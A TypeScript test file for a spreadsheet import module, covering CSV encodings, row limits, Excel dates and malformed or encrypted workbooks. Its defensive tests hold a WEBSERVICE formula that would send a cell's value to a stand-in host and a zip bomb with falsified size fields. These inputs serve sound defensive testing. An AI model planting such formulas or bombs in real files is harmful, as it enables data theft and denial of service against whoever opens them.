import { readFileSync } from 'node:fs';
import { utils, write } from '@e965/xlsx';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { decodeAs, guessEncoding } from '@/utils/import/file/decode';
import { dayOfSerial, isDayFormat } from '@/utils/import/file/excelDay';
import { readSpreadsheet } from '@/utils/import/file/readFile';
import { CAPS, type Cell, textOf } from '@/utils/import/file/table';

const bytesOf = (name: string): Uint8Array => new Uint8Array(readFileSync(`tests/fixtures/import/${name}`));
const read = (bytes: Uint8Array) => readSpreadsheet(bytes, 'sheet', null);
const rowsOf = (bytes: Uint8Array): string[][] => {
  const file = read(bytes);
  if (!file.ok) throw new Error(file.error.why);
  return (file.value.sheets[0]?.rows ?? []).map((row) => row.map(textOf));
};
const whyOf = (bytes: Uint8Array) => {
  const file = read(bytes);
  return file.ok ? 'read' : file.error;
};

/** A workbook of one sheet, made by the library itself. */
function workbook(
  rows: unknown[][],
  change: (sheet: Record<string, unknown>) => void = () => {},
  props = {},
) {
  const sheet = utils.aoa_to_sheet(rows);
  change(sheet);
  const book = utils.book_new();
  utils.book_append_sheet(book, sheet, 'Sheet1');
  Object.assign(book, props);
  return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }));
}
const cellsOf = (bytes: Uint8Array): Cell[][] => {
  const file = read(bytes);
  if (!file.ok) throw new Error(file.error.why);
  return (file.value.sheets[0]?.rows ?? []).map((row) => [...row]);
};

describe('the encoding of a text', () => {
  it.each([
    ['clients-gb18030.csv', 'gb18030'],
    ['clients-utf8-bom.csv', 'utf-8'],
    ['clients-utf16le.csv', 'utf-16le'],
    ['clients-utf16be-bare.csv', 'utf-16be'],
    ['clients-big5.csv', 'big5'],
    ['insurance.csv', 'gb18030'],
    ['semicolons.csv', 'utf-8'],
  ])('%s is %s', (name, encoding) => {
    expect(guessEncoding(bytesOf(name))).toBe(encoding);
  });

  it('says the same of one table in four encodings', () => {
    const names = ['clients-gb18030.csv', 'clients-utf8-bom.csv', 'clients-utf16le.csv'];
    const [first, ...others] = names.map((name) => rowsOf(bytesOf(name)));
    for (const other of others) expect(other).toEqual(first);
    expect(rowsOf(bytesOf('clients-utf16be-bare.csv'))).toEqual(first);
    expect(first?.[1]?.slice(0, 3)).toEqual(['00012801', '王丽华', '13800001234']);
    expect(first?.[4]?.at(-1)).toBe('说了两句,\n分两行');
  });

  it('counts what a wrong encoding leaves unreadable', () => {
    expect(decodeAs(bytesOf('clients-gb18030.csv'), 'utf-8').unreadable).toBeGreaterThan(20);
    expect(decodeAs(bytesOf('clients-gb18030.csv'), 'gb18030').unreadable).toBe(0);
  });
});

describe('a separated text', () => {
  it('takes NUL out and shows what is no character', () => {
    expect(rowsOf(bytesOf('nul-and-surrogate.csv'))[1]).toEqual(['王丽华', '13800001234']);
  });

  it('keeps ragged rows as they are and drops the padding', () => {
    expect(rowsOf(bytesOf('ragged.csv'))).toEqual([
      ['姓名', '手机', '备注'],
      ['王丽华'],
      ['李建国', '13800000000', '一', '二', '三'],
      [],
      ['陈雅婷', '', '好'],
    ]);
  });

  it('finds the semicolon, and unwraps what Excel was made to leave alone', () => {
    expect(rowsOf(bytesOf('semicolons.csv'))[1]?.[1]).toBe('+852 9123 4567');
    expect(rowsOf(bytesOf('formulas.csv'))[2]?.[2]).toBe('00012');
  });

  it('refuses a quotation that is never closed, with its row', () => {
    expect(whyOf(bytesOf('open-quote.csv'))).toEqual({ why: 'openQuote', row: 2 });
  });

  it('refuses what is no table', () => {
    expect(whyOf(new Uint8Array())).toEqual({ why: 'empty', row: null });
    expect(whyOf(strToU8('\n\n , ,\n'))).toEqual({ why: 'empty', row: null });
    expect(whyOf(bytesOf('picture.csv'))).toEqual({ why: 'notASpreadsheet', row: null });
    expect(whyOf(new Uint8Array(CAPS.bytes + 1))).toEqual({ why: 'tooLarge', row: null });
  });

  it('refuses a million rows without reading them all, and a thousand columns', () => {
    const began = performance.now();
    expect(whyOf(strToU8('王,1\n'.repeat(1_000_000)))).toEqual({ why: 'tooManyRows', row: CAPS.rows });
    expect(performance.now() - began).toBeLessThan(10_000);
    const wide = `${Array.from({ length: 1000 }, (_, at) => at).join(',')}\n`;
    expect(whyOf(strToU8(wide))).toEqual({ why: 'tooManyColumns', row: 1 });
  });
});

describe('a workbook', () => {
  it('knows days from numbers by their format, and keeps figures whole', () => {
    const bytes = workbook(
      [
        ['日期', '金额', '号'],
        [46062, 1234.5, 622_848_000_123_456],
      ],
      (sheet) => {
        sheet['A2'] = { t: 'n', v: 46062.604166666664, z: 'yyyy"年"m"月"d"日" h:mm' };
      },
    );
    expect(cellsOf(bytes)[1]).toEqual([
      { is: 'day', day: '2026-02-09', minute: 870, text: '2026-02-09' },
      { is: 'number', number: 1234.5, text: '1234.5' },
      { is: 'number', number: 622_848_000_123_456, text: '622848000123456' },
    ]);
  });

  it('counts from 1904 where the workbook does', () => {
    const from1904 = workbook(
      [[0]],
      (sheet) => {
        sheet['A1'] = { t: 'n', v: 44600, z: 'yyyy-mm-dd' };
      },
      { Workbook: { WBProps: { date1904: true } } },
    );
    expect(cellsOf(from1904)[0]?.[0]).toMatchObject({ is: 'day', day: '2026-02-09' });
  });

  it('keeps zeros that only a format puts in front, and percentages', () => {
    const bytes = workbook([[1, 2]], (sheet) => {
      sheet['A1'] = { t: 'n', v: 12801, z: '00000000' };
      sheet['B1'] = { t: 'n', v: 0.125, z: '0.0%' };
    });
    expect(cellsOf(bytes)[0]?.map(textOf)).toEqual(['00012801', '12.5%']);
  });

  it('reads what a formula came to last, never the formula; errors are errors', () => {
    const bytes = workbook([[1, 2]], (sheet) => {
      sheet['A1'] = { t: 'n', v: 3, f: 'WEBSERVICE("http://x/"&B1)' };
      sheet['B1'] = { t: 'e', v: 23, w: '#REF!' };
    });
    expect(cellsOf(bytes)[0]).toEqual([
      { is: 'number', number: 3, text: '3' },
      { is: 'fault', text: '#REF!' },
    ]);
  });

  it('brings the note behind a cell along', () => {
    const bytes = workbook([['T']], (sheet) => {
      sheet['A1'] = { t: 's', v: 'T', c: [{ a: 'RM', t: '谈了到期' }] };
    });
    expect(cellsOf(bytes)[0]?.[0]).toEqual({ is: 'text', text: 'T', note: '谈了到期' });
  });

  it('refuses a bomb while it counts, whatever the zip says of its sizes', () => {
    const bomb = zipSync({
      'xl/workbook.xml': strToU8('<workbook/>'),
      'xl/worksheets/sheet1.xml': new Uint8Array(CAPS.inflated + 1),
    });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    // Its directory says that nothing is in it.
    const lying = bomb.slice();
    const view = new DataView(lying.buffer);
    for (let at = 0; at + 46 < lying.length; at += 1) {
      if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 10, true);
      if (view.getUint32(at, true) === 0x04034b50) view.setUint32(at + 22, 10, true);
    }
    for (const bytes of [bomb, lying]) expect(whyOf(bytes)).toEqual({ why: 'tooMuchInside', row: null });
  });

  it('refuses a zip without a workbook, a broken one, an old and an encrypted one', () => {
    expect(whyOf(zipSync({ 'a.txt': strToU8('hello') }))).toEqual({ why: 'notASpreadsheet', row: null });
    expect(whyOf(workbook([['a']]).subarray(0, 900))).toMatchObject({ row: null });
    const compound = new Uint8Array(2048);
    compound.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    expect(whyOf(compound)).toEqual({ why: 'oldExcel', row: null });
    const locked = compound.slice();
    for (const [at, sign] of [...'EncryptedPackage'].entries())
      locked.set([sign.charCodeAt(0), 0], 1024 + 2 * at);
    expect(whyOf(locked)).toEqual({ why: 'passworded', row: null });
  });

  it('leaves macros and links to other files alone', () => {
    const parts = {
      'xl/vbaProject.bin': strToU8('macro'),
      'xl/externalLinks/externalLink1.xml': strToU8('<externalLink/>'),
    };
    const plain = workbook([['姓名'], ['王丽华']]);
    // Beside the parts of a workbook that opens.
    const both = zipSync({ ...unzipSync(plain), ...parts });
    expect(rowsOf(both)).toEqual([['姓名'], ['王丽华']]);
  });
});

describe('the serial numbers of days', () => {
  it.each([
    [61, false, '1900-03-01'],
    [46062, false, '2026-02-09'],
    [109_574, false, '2199-12-31'],
    [44600, true, '2026-02-09'],
  ])('%d (from 1904: %s) is %s', (serial, from1904, day) => {
    expect(dayOfSerial(serial, from1904)?.day).toBe(day);
  });

  it.each([60, 0, -5, 109_575, Number.NaN, Number.POSITIVE_INFINITY])('%d is none', (serial) => {
    expect(dayOfSerial(serial, false)).toBeNull();
  });

  it.each([
    ['m/d/yy', true],
    ['yyyy"年"m"月"d"日"', true],
    ['[$-804]yyyy/m/d;@', true],
    ['h:mm', false],
    ['#,##0.00', false],
    ['General', false],
    ['0.00"day"', false],
    ['[Red]0', false],
  ])('the format %s is one of days: %s', (format, is) => {
    expect(isDayFormat(format)).toBe(is);
  });
});
